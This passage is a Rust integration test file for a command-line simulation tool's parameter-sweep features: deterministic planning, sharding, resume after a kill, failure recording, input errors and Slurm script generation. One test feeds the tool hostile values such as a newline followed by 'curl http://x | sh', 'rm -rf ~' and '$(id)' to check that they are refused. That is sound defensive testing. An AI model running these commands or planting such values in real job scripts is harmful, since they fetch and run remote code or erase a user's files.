//! Sweeps end to end through the command line: plans are deterministic; merged results
//! are byte-identical whatever the sharding, order or thread count; a killed shard resumes
//! without losing or repeating a run; a torn tail is cut; failed runs are recorded and
//! named; every bad input exits 2 with an error that names the file, key and value.
//! (The Slurm array test needs a real Slurm: `.ci/slurm/test.sh`, run by `.ci/run`.)

use std::fs;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use assert_cmd::Command;
use tempfile::TempDir;

fn esh() -> Command {
    Command::cargo_bin("esh").expect("the esh binary is built")
}

/// A base scenario small enough for a debug build.
const BASE: &str = r#"
[run]
ticks = 12
[landscape]
n = 10
k = 2
[centre]
review_interval = 3
pilot_quota = 2
[network]
kind = "random"
density = 0.1
[[regions]]
name = "a"
zones = 30
[[regions]]
name = "b"
zones = 20
"#;

const SWEEP: &str = r#"
[sweep]
scenario = "base.toml"
replications = 3
[axes]
"centre.tolerance" = { from = 0.0, to = 1.0, steps = 3 }
"zones.supervisors" = [1, 3]
[keep]
ticks = "all"
every = 4
metrics = ["mean_performance", "diversity", "sanctions"]
"#;

fn setup(sweep: &str) -> TempDir {
    let dir = TempDir::new().unwrap();
    fs::write(dir.path().join("base.toml"), BASE).unwrap();
    fs::write(dir.path().join("sweep.toml"), sweep).unwrap();
    dir
}

fn ok(dir: &Path, args: &[&str]) -> String {
    let out = esh().current_dir(dir).args(args).output().unwrap();
    assert!(out.status.success(), "`esh {}` failed:\n{}", args.join(" "), String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn fails(dir: &Path, args: &[&str], code: i32, needles: &[&str]) -> String {
    let out = esh().current_dir(dir).args(args).output().unwrap();
    // Both streams: a summary line on stdout may say what failed.
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned() + &String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(code), "`esh {}`: output:\n{stderr}", args.join(" "));
    for n in needles {
        assert!(stderr.contains(n), "`esh {}`: stderr lacks {n:?}:\n{stderr}", args.join(" "));
    }
    assert!(!stderr.contains("panicked"), "a panic:\n{stderr}");
    stderr
}

fn read(p: PathBuf) -> String {
    fs::read_to_string(&p).unwrap_or_else(|e| panic!("{}: {e}", p.display()))
}

#[test]
fn plan_run_merge_writes_tidy_results() {
    let d = setup(SWEEP);
    let out = ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "sw"]);
    assert!(out.contains("planned 18 runs (6 design points x 3 replications)"), "{out}");
    let plan = read(d.path().join("sw/plan.csv"));
    assert_eq!(plan.lines().next(), Some("run,point,replication,seed,centre.tolerance,zones.supervisors"));
    assert_eq!(plan.lines().nth(1), Some("0,0,0,1,0.0,1"));
    assert_eq!(plan.lines().nth(4), Some("3,1,0,1,0.0,3"));
    assert_eq!(plan.lines().count(), 19);
    ok(d.path(), &["sweep", "run", "sw", "-q"]);
    let merged = ok(d.path(), &["sweep", "merge", "sw"]);
    assert!(merged.contains("merged 18 of 18 runs"), "{merged}");
    let results = read(d.path().join("sw/results.csv"));
    assert_eq!(
        results.lines().next(),
        Some("run,point,replication,seed,centre.tolerance,zones.supervisors,tick,mean_performance,diversity,sanctions")
    );
    // Ticks 0, 4, 8, 12 of each of the 18 runs.
    assert_eq!(results.lines().count(), 1 + 18 * 4);
    assert!(results.lines().nth(1).unwrap().starts_with("0,0,0,1,0.0,1,0,"));
    let summary = read(d.path().join("sw/summary.csv"));
    assert_eq!(
        summary.lines().next(),
        Some("point,centre.tolerance,zones.supervisors,tick,metric,n,mean,sd,ci95_low,ci95_high")
    );
    // 6 points x 4 ticks x 3 metrics.
    assert_eq!(summary.lines().count(), 1 + 6 * 4 * 3);
    let row: Vec<&str> = summary.lines().nth(1).unwrap().split(',').collect();
    assert_eq!(&row[..6], &["0", "0.0", "1", "0", "mean_performance", "3"]);
    let (mean, low, high): (f64, f64, f64) =
        (row[6].parse().unwrap(), row[8].parse().unwrap(), row[9].parse().unwrap());
    assert!(low <= mean && mean <= high);
    let status = ok(d.path(), &["sweep", "status", "sw"]);
    assert!(status.contains("done 18, failed 0, missing 0"), "{status}");
}

#[test]
fn results_do_not_depend_on_shards_order_or_threads() {
    let d = setup(SWEEP);
    for name in ["one", "four", "env"] {
        ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", name]);
    }
    assert_eq!(read(d.path().join("one/plan.csv")), read(d.path().join("four/plan.csv")));
    ok(d.path(), &["sweep", "run", "one", "-q", "-j", "1"]);
    for shard in ["3/4", "0/4", "2/4", "1/4"] {
        ok(d.path(), &["sweep", "run", "four", "--shard", shard, "-q", "-j", "2"]);
    }
    // Shards from a scheduler's array index: Slurm's count variable, or --shards.
    for i in 0..3 {
        let out = esh()
            .current_dir(d.path())
            .args(["sweep", "run", "env", "-q"])
            .env("SLURM_ARRAY_TASK_ID", i.to_string())
            .env("SLURM_ARRAY_TASK_COUNT", "3")
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    }
    assert!(d.path().join("env/shards/shard-2-of-3.csv").exists());
    for name in ["one", "four", "env"] {
        ok(d.path(), &["sweep", "merge", name, "-q"]);
    }
    for file in ["results.csv", "summary.csv"] {
        let one = read(d.path().join("one").join(file));
        assert_eq!(one, read(d.path().join("four").join(file)), "{file}: 1 shard vs 4");
        assert_eq!(one, read(d.path().join("env").join(file)), "{file}: 1 shard vs 3 from the environment");
    }
    // Running a complete shard again does nothing.
    let again = ok(d.path(), &["sweep", "run", "four", "--shard", "1/4"]);
    assert!(again.contains("0 ran now"), "{again}");
}

#[test]
fn a_killed_shard_resumes_without_losing_or_repeating_a_run() {
    let sweep = SWEEP.replace("replications = 3", "replications = 40");
    let d = setup(&sweep);
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "whole"]);
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "killed"]);
    ok(d.path(), &["sweep", "run", "whole", "-q"]);
    ok(d.path(), &["sweep", "merge", "whole", "-q"]);

    let bin = assert_cmd::cargo::cargo_bin("esh");
    let mut child = std::process::Command::new(bin)
        .current_dir(d.path())
        .args(["sweep", "run", "killed", "-q", "-j", "1"])
        .spawn()
        .unwrap();
    let shard = d.path().join("killed/shards/shard-0-of-1.csv");
    let started = Instant::now();
    while fs::read_to_string(&shard).map_or(true, |t| !t.contains("\ndone,")) {
        assert!(started.elapsed() < Duration::from_secs(60), "no run completed in a minute");
        std::thread::sleep(Duration::from_millis(2));
    }
    child.kill().unwrap();
    child.wait().unwrap();
    let status = ok(d.path(), &["sweep", "status", "killed"]);
    assert!(!status.contains("missing 0\n"), "the kill came too late to test anything:\n{status}");
    assert!(status.contains("interrupted"), "{status}");
    // A torn write after the last complete run: half a row, no newline.
    let mut f = fs::OpenOptions::new().append(true).open(&shard).unwrap();
    std::io::Write::write_all(&mut f, b"r,9999,4,0.5").unwrap();
    drop(f);
    fails(d.path(), &["sweep", "merge", "killed"], 1, &["the sweep is not complete", "missing"]);
    assert!(!d.path().join("killed/results.csv").exists());
    let resumed = esh().current_dir(d.path()).args(["sweep", "run", "killed"]).output().unwrap();
    assert!(resumed.status.success());
    assert!(String::from_utf8_lossy(&resumed.stderr).contains("cut 12 bytes"));
    ok(d.path(), &["sweep", "merge", "killed", "-q"]);
    for file in ["results.csv", "summary.csv"] {
        assert_eq!(read(d.path().join("whole").join(file)), read(d.path().join("killed").join(file)), "{file}");
    }
}

#[test]
fn a_record_with_a_bad_checksum_and_what_follows_it_are_cut() {
    let d = setup(SWEEP);
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "sw"]);
    ok(d.path(), &["sweep", "run", "sw", "-q"]);
    ok(d.path(), &["sweep", "merge", "sw", "-q"]);
    let good = read(d.path().join("sw/results.csv"));
    let shard = d.path().join("sw/shards/shard-0-of-1.csv");
    let text = read(shard.clone());
    // Damage a value in the last run's rows: its record no longer matches.
    let last_done = text.trim_end().rfind("\ndone,").unwrap();
    let row_start = text[..last_done].rfind("\nr,").unwrap() + 1;
    let mut bytes = text.into_bytes();
    let at = row_start + 4 + bytes[row_start + 4..].iter().position(|b| b.is_ascii_digit()).unwrap();
    bytes[at] = if bytes[at] == b'9' { b'8' } else { b'9' };
    fs::write(&shard, &bytes).unwrap();
    let status = ok(d.path(), &["sweep", "status", "sw"]);
    assert!(status.contains("done 17, failed 0, missing 1"), "{status}");
    ok(d.path(), &["sweep", "run", "sw", "-q"]);
    ok(d.path(), &["sweep", "merge", "sw", "-q"]);
    assert_eq!(good, read(d.path().join("sw/results.csv")));
}

#[test]
fn failed_runs_are_recorded_named_and_merged_only_when_allowed() {
    // K = 12 is not below N = 10: those design points cannot run.
    let sweep = SWEEP.replace("\"zones.supervisors\" = [1, 3]", "\"landscape.k\" = [2, 12]");
    let d = setup(&sweep);
    let out = esh().current_dir(d.path()).args(["sweep", "plan", "sweep.toml", "--out", "sw"]).output().unwrap();
    assert!(out.status.success());
    let warn = String::from_utf8_lossy(&out.stderr);
    assert!(warn.contains("3 of the 6 design points are not valid") && warn.contains("K = 12"), "{warn}");
    fails(
        d.path(),
        &["sweep", "run", "sw", "-q"],
        1,
        &["run 3 failed", "K = 12 must be less than N = 10", "9 run(s) failed"],
    );
    let status = ok(d.path(), &["sweep", "status", "sw"]);
    assert!(status.contains("done 9, failed 9, missing 0"), "{status}");
    assert!(status.contains("run 3: invalid design point"), "{status}");
    fails(
        d.path(),
        &["sweep", "merge", "sw"],
        1,
        &["failed: 9 run(s)", "run 3: invalid design point", "--allow-missing"],
    );
    // Running again skips recorded failures.
    fails(d.path(), &["sweep", "run", "sw"], 1, &["0 ran now", "9 failed before"]);
    let merged = esh().current_dir(d.path()).args(["sweep", "merge", "sw", "--allow-missing"]).output().unwrap();
    assert!(merged.status.success());
    assert!(String::from_utf8_lossy(&merged.stdout).contains("merged 9 of 18 runs"));
    let results = read(d.path().join("sw/results.csv"));
    assert_eq!(results.lines().count(), 1 + 9 * 4);
    assert!(results.lines().skip(1).all(|l| l.split(',').nth(5) == Some("2")));
}

#[test]
fn random_and_latin_hypercube_designs_are_planned_deterministically() {
    let lhs = SWEEP
        .replace("replications = 3", "replications = 2\ndesign = \"lhs\"\nsamples = 10\nseed = 7")
        .replace("{ from = 0.0, to = 1.0, steps = 3 }", "{ from = 0.001, to = 1.0, scale = \"log\" }")
        .replace("[1, 3]", "{ from = 1, to = 5 }");
    let d = setup(&lhs);
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "a"]);
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "b"]);
    let plan = read(d.path().join("a/plan.csv"));
    assert_eq!(plan, read(d.path().join("b/plan.csv")));
    assert_eq!(plan.lines().count(), 1 + 20);
    let mut strata = [false; 10];
    for line in plan.lines().skip(1).step_by(2) {
        let f: Vec<&str> = line.split(',').collect();
        assert_eq!(f[3], "7", "common seeds: every point uses the sweep seed");
        let x: f64 = f[4].parse().unwrap();
        assert!((0.001..=1.0).contains(&x));
        // Log scale: each of the 10 equal strata of log10(x) in [-3, 0] is used once.
        let k = ((x.log10() + 3.0) / 0.3).floor().min(9.0) as usize;
        assert!(!strata[k], "stratum {k} twice");
        strata[k] = true;
        let s: u32 = f[5].parse().unwrap();
        assert!((1..=5).contains(&s));
    }
    let random = lhs.replace("design = \"lhs\"", "design = \"random\"\nseeds = \"independent\"");
    let d = setup(&random);
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "r"]);
    let plan = read(d.path().join("r/plan.csv"));
    let seeds: std::collections::BTreeSet<&str> = plan.lines().skip(1).map(|l| l.split(',').nth(3).unwrap()).collect();
    assert_eq!(seeds.len(), 10, "independent seeds: one per design point");
}

#[test]
fn an_inline_scenario_and_the_normalised_sweep_plan_the_same_runs() {
    let inline = format!(
        "{}\n{}",
        SWEEP.replace("scenario = \"base.toml\"\n", ""),
        BASE.replace("[run]", "[scenario.run]")
            .replace("[landscape]", "[scenario.landscape]")
            .replace("[centre]", "[scenario.centre]")
            .replace("[network]", "[scenario.network]")
            .replace("[[regions]]", "[[scenario.regions]]")
    );
    let d = setup(&inline);
    fs::write(d.path().join("by_path.toml"), SWEEP).unwrap();
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "inline"]);
    ok(d.path(), &["sweep", "plan", "by_path.toml", "--out", "path"]);
    for f in ["plan.csv", "base.toml", "sweep.toml"] {
        assert_eq!(read(d.path().join("inline").join(f)), read(d.path().join("path").join(f)), "{f}");
    }
    // The normalised sweep file plans the same runs again.
    ok(d.path(), &["sweep", "plan", "path/sweep.toml", "--out", "again"]);
    assert_eq!(read(d.path().join("path/plan.csv")), read(d.path().join("again/plan.csv")));
}

#[test]
fn slurm_scripts_are_written_and_shown() {
    let sweep = format!("{SWEEP}\n[slurm]\ntime = \"02:00:00\"\naccount = \"proj42\"\nextra = [\"--qos=normal\"]\n");
    let d = setup(&sweep);
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "sw"]);
    let out = ok(
        d.path(),
        &[
            "sweep",
            "slurm",
            "sw",
            "--tasks",
            "4",
            "--partition",
            "short",
            "--throttle",
            "2",
            "--memory",
            "1G",
            "--sbatch=--mail-type=FAIL",
        ],
    );
    let array = read(d.path().join("sw/slurm/array.sbatch"));
    for line in [
        "#SBATCH --array=0-3%2",
        "#SBATCH --time=02:00:00",
        "#SBATCH --partition=short",
        "#SBATCH --account=proj42",
        "#SBATCH --mem=1G",
        "#SBATCH --qos=normal",
        "#SBATCH --mail-type=FAIL",
        "--shard \"${SLURM_ARRAY_TASK_ID}/4\"",
    ] {
        assert!(array.contains(line), "array script lacks {line}:\n{array}");
    }
    let merge = read(d.path().join("sw/slurm/merge.sbatch"));
    assert!(merge.contains("sweep merge"), "{merge}");
    assert!(out.contains("#SBATCH --array=0-3%2") && out.contains("not submitted"), "{out}");
    assert!(out.contains("sbatch --array=0-3%2"), "{out}");
    fails(d.path(), &["sweep", "slurm", "sw"], 2, &["--tasks"]);
    fails(d.path(), &["sweep", "slurm", "sw", "--tasks", "2", "--time", "2h"], 2, &["not a Slurm time limit"]);
    // When every run has a record, --missing has nothing to submit.
    ok(d.path(), &["sweep", "run", "sw", "-q"]);
    let none = ok(d.path(), &["sweep", "slurm", "sw", "--tasks", "4", "--missing", "--submit"]);
    assert!(none.contains("nothing to submit"), "{none}");
}

#[test]
fn bad_sweep_input_exits_2_with_a_helpful_error() {
    let d = setup(SWEEP);
    let cases: &[(&str, &str, &[&str])] = &[
        (
            "\"centre.tolerance\" = {",
            "\"centre.tolerence\" = {",
            &["bad.toml:6:1", "unknown parameter `centre.tolerence`", "did you mean `centre.tolerance`?"],
        ),
        (
            "replications = 3",
            "replications = 3\nreplicatons = 2",
            &["bad.toml:5:1", "unknown key in [sweep]", "did you mean `replications`?"],
        ),
        ("[1, 3]", "[1, 300]", &["zones.supervisors", "expected an integer in [0, 100], found 300"]),
        ("steps = 3 }", "}", &["needs `steps`"]),
        ("replications = 3", "replications = 3\nsamples = 4", &["`samples` applies to random and lhs designs"]),
        ("scenario = \"base.toml\"", "scenario = \"nowhere.toml\"", &["no scenario file at", "nowhere.toml"]),
        (
            "ticks = \"all\"",
            "ticks = \"everything\"",
            &["keep.ticks", "expected one of \"all\", \"final\", \"window\""],
        ),
        ("\"sanctions\"]", "\"sanction\"]", &["unknown metric \"sanction\"", "did you mean \"sanctions\"?"]),
        ("\"zones.supervisors\"", "\"run.seed\"", &["`run.seed` is set by the sweep itself"]),
        ("[keep]", "[kepp]", &["unknown key at the top level", "did you mean `keep`?"]),
        ("[keep]", "[keep]\nreporters = [\"seed\"]", &["keep.reporters", "`seed` is a column of results.csv already"]),
        ("[keep]", "[keep]\nreporters = [\"diversity\"]", &["keep.reporters", "`diversity` is a column of ticks.csv"]),
        ("[keep]", "[keep]\nreporters = [\"a b\"]", &["keep.reporters", "is not a name"]),
    ];
    for (from, to, needles) in cases {
        assert!(SWEEP.contains(from), "{from}");
        fs::write(d.path().join("bad.toml"), SWEEP.replacen(from, to, 1)).unwrap();
        fails(d.path(), &["sweep", "plan", "bad.toml", "--out", "bad"], 2, needles);
        assert!(!d.path().join("bad").exists(), "nothing is written on bad input");
    }
    // A bad base scenario is reported in its own file.
    fs::write(d.path().join("base.toml"), BASE.replace("density = 0.1", "density = 2.0")).unwrap();
    fails(d.path(), &["sweep", "plan", "sweep.toml", "--out", "bad"], 2, &["base.toml:12:11", "network.density"]);
    fs::write(d.path().join("base.toml"), BASE).unwrap();
    // Directories and arguments.
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "sw"]);
    fails(d.path(), &["sweep", "plan", "sweep.toml", "--out", "sw"], 2, &["already exists", "--force"]);
    fails(d.path(), &["sweep", "run", "."], 2, &["not a sweep directory"]);
    fails(d.path(), &["sweep", "run", "nowhere"], 2, &["not a sweep directory"]);
    fails(d.path(), &["sweep", "run", "sw", "--shard", "4/4"], 2, &["numbered from 0"]);
    fails(d.path(), &["sweep", "run", "sw", "--shard", "two"], 2, &["INDEX/COUNT"]);
    let out = esh().current_dir(d.path()).args(["sweep", "run", "sw"]).env("PBS_ARRAY_INDEX", "1").output().unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("pass --shards N"));
    // A plan edited after the fact is refused.
    let plan = d.path().join("sw/plan.csv");
    fs::write(&plan, read(plan.clone()).replace("0,0,0,1,0.0,1", "0,0,0,2,0.0,1")).unwrap();
    ok(d.path(), &["sweep", "status", "sw"]);
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "sw2"]);
    ok(d.path(), &["sweep", "run", "sw2", "--shard", "0/2", "-q"]);
    fs::copy(d.path().join("sw2/shards/shard-0-of-2.csv"), d.path().join("sw/shards/shard-0-of-2.csv")).unwrap();
    fails(d.path(), &["sweep", "run", "sw", "--shard", "0/2"], 2, &["was written for another plan"]);
}

/// Runs `esh` with extra environment variables.
fn run_env(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> std::process::Output {
    let mut c = esh();
    c.current_dir(dir).args(args);
    for (k, v) in env {
        c.env(k, v);
    }
    c.output().unwrap()
}

#[test]
fn hostile_slurm_values_are_refused_and_never_reach_a_script() {
    let d = setup(SWEEP);
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "sw"]);
    let script = d.path().join("sw/slurm/array.sbatch");
    // Every flag that reaches a script, with a value that would add a command line.
    let flags: &[(&str, &str, &str)] = &[
        ("--partition", "short\ncurl http://x | sh", "control character"),
        ("--partition", "short;rm -rf ~", "not a Slurm partition name"),
        ("--account", "proj\nrm -rf ~", "control character"),
        ("--account", "$(id)", "not a Slurm account name"),
        ("--memory", "1G\nrm -rf ~", "control character"),
        ("--memory", "lots", "not a Slurm memory size"),
        ("--time", "01:00:00\r\nrm -rf ~", "control character"),
        ("--time", "1h", "not a Slurm time limit"),
        ("--sbatch", "--qos=normal\nrm -rf ~", "control character"),
        ("--sbatch", "--comment=$(id)", "not an sbatch option"),
        ("--sbatch", "rm", "not an sbatch option"),
    ];
    for (flag, value, why) in flags {
        let arg = format!("{flag}={value}");
        fails(d.path(), &["sweep", "slurm", "sw", "--tasks", "2", &arg], 2, &[flag, why]);
        assert!(!script.exists(), "{flag} {value:?}: a script was written");
    }
    // Counts given as flags have the sweep file's ranges.
    for (flag, value) in [("--cpus", "0"), ("--throttle", "0"), ("--tasks", "4294967295"), ("--cpus", "100001")] {
        let arg = format!("{flag}={value}");
        let tasks = if flag == "--tasks" { &arg } else { "--tasks=2" };
        let args: Vec<&str> =
            ["sweep", "slurm", "sw", tasks].into_iter().chain((flag != "--tasks").then_some(arg.as_str())).collect();
        fails(d.path(), &args, 2, &[flag, "expected an integer in [1, "]);
        assert!(!script.exists(), "{flag} {value:?}: a script was written");
    }
    // The same values in the sweep file's [slurm] table are refused at plan time, located.
    for (key, value, why) in [
        ("partition", "short\\ncurl http://x | sh", "control character"),
        ("account", "a b", "not a Slurm account name"),
        ("memory", "2G\\n#SBATCH --mem=0", "control character"),
        ("time", "1:00\\u0000", "control character"),
        ("partition", "a,b c", "not a Slurm partition name"),
    ] {
        fs::write(d.path().join("bad.toml"), format!("{SWEEP}\n[slurm]\n{key} = \"{value}\"\n")).unwrap();
        fails(
            d.path(),
            &["sweep", "plan", "bad.toml", "--out", "bad"],
            2,
            &["bad.toml:", &format!("slurm.{key}"), why],
        );
    }
    fs::write(d.path().join("bad.toml"), format!("{SWEEP}\n[slurm]\nextra = [\"--qos=a\\nrm -rf ~\"]\n")).unwrap();
    fails(d.path(), &["sweep", "plan", "bad.toml", "--out", "bad"], 2, &["slurm.extra", "control character"]);
    // A sweep directory whose path cannot go into an #SBATCH line, and one with a newline.
    for name in ["with space", "new\nline", "per%cent"] {
        ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", name]);
        fails(
            d.path(),
            &["sweep", "slurm", name, "--tasks", "2"],
            2,
            &["the sweep directory", "cannot go into an sbatch script"],
        );
    }
    // A [slurm] value edited into the plan's sweep.toml by hand is caught when the script is written.
    let planned = d.path().join("sw/sweep.toml");
    fs::write(&planned, read(planned.clone()) + "\n[slurm]\npartition = \"x y\"\n").unwrap();
    fails(d.path(), &["sweep", "slurm", "sw", "--tasks", "2"], 2, &["slurm.partition", "not a Slurm partition name"]);
    fs::write(&planned, read(planned.clone()).replace("partition = \"x y\"", "partition = \"short,long\"")).unwrap();
    // Good values still make a script whose every line is a comment, an #SBATCH line or one command.
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "good", "-q"]);
    let out = ok(d.path(), &["sweep", "slurm", "good", "--tasks", "2", "--account", "proj-4.2_a", "--memory", "512M"]);
    let text = read(d.path().join("good/slurm/array.sbatch"));
    assert!(out.contains("#SBATCH --account=proj-4.2_a") && out.contains("#SBATCH --mem=512M"), "{out}");
    let commands: Vec<&str> = text.lines().filter(|l| !l.starts_with('#')).collect();
    assert_eq!(commands.len(), 2, "{text}");
    assert!(commands[0] == "set -euo pipefail" && commands[1].starts_with("exec '"), "{text}");
}

#[test]
fn plan_force_refuses_a_running_sweep_and_a_replaced_runner_fails() {
    let sweep = SWEEP.replace("replications = 3", "replications = 400");
    let d = setup(&sweep);
    fs::write(d.path().join("base.toml"), BASE.replace("ticks = 12", "ticks = 60")).unwrap();
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "sw"]);
    let bin = assert_cmd::cargo::cargo_bin("esh");
    let child = std::process::Command::new(bin)
        .current_dir(d.path())
        .args(["sweep", "run", "sw", "-q", "-j", "1"])
        .stderr(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let shard = d.path().join("sw/shards/shard-0-of-1.csv");
    let started = Instant::now();
    while fs::read_to_string(&shard).map_or(true, |t| !t.contains("\ndone,")) {
        assert!(started.elapsed() < Duration::from_secs(60), "no run completed in a minute");
        std::thread::sleep(Duration::from_millis(2));
    }
    fails(
        d.path(),
        &["sweep", "plan", "sweep.toml", "--out", "sw", "--force"],
        2,
        &["is being run", "nothing was written"],
    );
    assert!(shard.exists(), "the running shard's results are still there");
    // Replaced under the runner anyway (by hand): the runner must not report success.
    fs::rename(d.path().join("sw"), d.path().join("sw-old")).unwrap();
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "sw", "-q"]);
    let out = child.wait_with_output().unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "the runner finished before the replacement, or ignored it:\n{stderr}");
    assert!(stderr.contains("was replaced or removed while this shard ran"), "{stderr}");
    // With no runner, --force replaces the sweep.
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "sw-old", "--force", "-q"]);
}

#[test]
fn a_design_point_too_big_for_the_memory_fails_alone_and_the_shard_goes_on() {
    // K = 9 needs NK tables of about 40 KB per context; K = 2 a few hundred bytes.
    let sweep = SWEEP.replace("\"zones.supervisors\" = [1, 3]", "\"landscape.k\" = [2, 9]");
    let d = setup(&sweep);
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "sw"]);
    let out = run_env(d.path(), &["sweep", "run", "sw", "-j", "2"], &[("ESH_MEMORY", "50K")]);
    let text = String::from_utf8_lossy(&out.stderr).into_owned() + &String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(text.contains("out of memory") && text.contains("ESH_MEMORY"), "{text}");
    assert!(!text.contains("panicked"), "{text}");
    let status = ok(d.path(), &["sweep", "status", "sw"]);
    assert!(status.contains("done 9, failed 9, missing 0"), "{status}");
    assert!(status.contains("out of memory: the run needs about"), "{status}");
    // With room, the failed runs run again and the sweep completes.
    let out = run_env(d.path(), &["sweep", "run", "sw", "--retry-failed", "-q"], &[("ESH_MEMORY", "1G")]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    ok(d.path(), &["sweep", "merge", "sw", "-q"]);
    let out = run_env(d.path(), &["sweep", "run", "sw"], &[("ESH_MEMORY", "a lot")]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("ESH_MEMORY=a lot"));
}

#[test]
fn run_counts_that_overflow_or_exceed_the_limit_are_errors() {
    let d = setup(SWEEP);
    let axes = ["centre.tolerance", "zones.experiment_rate", "landscape.turbulence", "landscape.context_similarity"]
        .iter()
        .map(|a| format!("\"{a}\" = {{ from = 0.0, to = 1.0, steps = 65536 }}"))
        .collect::<Vec<_>>()
        .join("\n");
    let four = format!("[sweep]\nscenario = \"base.toml\"\n[axes]\n{axes}\n");
    fs::write(d.path().join("four.toml"), four).unwrap();
    fails(
        d.path(),
        &["sweep", "plan", "four.toml", "--out", "x"],
        2,
        &["more than 2^64 runs", "65536 x 65536 x 65536 x 65536", "at most 10000000"],
    );
    fs::write(d.path().join("lhs.toml"), "[sweep]\nscenario = \"base.toml\"\ndesign = \"lhs\"\nsamples = 10000000\nreplications = 2\n[axes]\n\"centre.tolerance\" = { from = 0.0, to = 1.0 }\n").unwrap();
    fails(d.path(), &["sweep", "plan", "lhs.toml", "--out", "x"], 2, &["20000000 runs", "at most 10000000"]);
    fs::write(
        d.path().join("lhs.toml"),
        "[sweep]\nscenario = \"base.toml\"\ndesign = \"lhs\"\nsamples = 10000000\nreplications = 1\n[axes]\n\"centre.tolerance\" = { from = 0.0, to = 1.0 }\n\"zones.experiment_rate\" = { from = 0.0, to = 1.0 }\n\"landscape.turbulence\" = { from = 0.0, to = 1.0 }\n",
    )
    .unwrap();
    fails(d.path(), &["sweep", "plan", "lhs.toml", "--out", "x"], 2, &["sweep.samples", "at most 25000000"]);
    assert!(!d.path().join("x").exists());
}

/// Plans (and indexes) a sweep of `runs` runs under an address-space limit of `cap` bytes.
fn plan_under_cap(d: &Path, sweep: &str, cap: u64) {
    fs::write(d.join("cap.toml"), sweep).unwrap();
    let bin = assert_cmd::cargo::cargo_bin("esh");
    for args in
        [vec!["sweep", "plan", "cap.toml", "--out", "cap", "-q", "--force"], vec!["sweep", "status", "cap", "-q"]]
    {
        let out = std::process::Command::new("prlimit")
            .arg(format!("--as={cap}"))
            .arg(&bin)
            .args(&args)
            .current_dir(d)
            .output()
            .expect("prlimit (util-linux) runs");
        let code = out.status.code();
        let stderr = String::from_utf8_lossy(&out.stderr);
        // status -q exits 1 for a sweep with runs missing; anything else is a failure.
        assert!(
            code == Some(0) || (code == Some(1) && args[1] == "status" && stderr.is_empty()),
            "`esh {}` under {cap} bytes: {code:?}\n{stderr}",
            args.join(" ")
        );
    }
}

#[test]
fn planning_streams_in_bounded_memory() {
    let d = setup(SWEEP);
    // A million runs of a grid, and a Latin hypercube of a million samples, under 160 MB of
    // address space (the grid's design points alone took 80 MB before planning streamed).
    let grid = "[sweep]\nscenario = \"base.toml\"\nreplications = 10\n[axes]\n\"centre.tolerance\" = { from = 0.0, to = 1.0, steps = 1000 }\n\"zones.supervisors\" = { from = 1, to = 100 }\n";
    plan_under_cap(d.path(), grid, 160_000_000);
    assert_eq!(read(d.path().join("cap/plan.csv")).lines().count(), 1_000_001);
    let lhs = "[sweep]\nscenario = \"base.toml\"\ndesign = \"lhs\"\nsamples = 1000000\n[axes]\n\"centre.tolerance\" = { from = 0.0, to = 1.0 }\n\"zones.supervisors\" = { from = 1, to = 100 }\n";
    plan_under_cap(d.path(), lhs, 160_000_000);
}

/// The largest plans allowed (10^7 runs; a 10^7-sample Latin hypercube over two axes) under
/// 400 MB of address space. Slow (a minute, 1 GB of disk): `cargo test --test sweep -- --ignored`.
#[test]
#[ignore]
fn the_largest_plans_fit_a_memory_cap() {
    let d = setup(SWEEP);
    let grid = "[sweep]\nscenario = \"base.toml\"\nreplications = 100000\n[axes]\n\"centre.tolerance\" = { from = 0.0, to = 1.0, steps = 100 }\n";
    plan_under_cap(d.path(), grid, 400_000_000);
    let lhs = "[sweep]\nscenario = \"base.toml\"\ndesign = \"lhs\"\nsamples = 10000000\n[axes]\n\"centre.tolerance\" = { from = 0.0, to = 1.0 }\n\"zones.supervisors\" = { from = 1, to = 100 }\n";
    plan_under_cap(d.path(), lhs, 400_000_000);
}

/// A sweep run whole into one shard and merged: its directory, results.csv, the shard
/// file's path and text.
fn complete_one_shard_sweep() -> (TempDir, String, PathBuf, String) {
    let d = setup(SWEEP);
    ok(d.path(), &["sweep", "plan", "sweep.toml", "--out", "sw"]);
    ok(d.path(), &["sweep", "run", "sw", "-q", "-j", "1"]);
    ok(d.path(), &["sweep", "merge", "sw", "-q"]);
    let good = read(d.path().join("sw/results.csv"));
    let shard = d.path().join("sw/shards/shard-0-of-1.csv");
    let text = read(shard.clone());
    (d, good, shard, text)
}

/// `text` with one digit changed in the row lines of the record starting at `start`.
fn flip_a_digit(text: &str, start: usize) -> Vec<u8> {
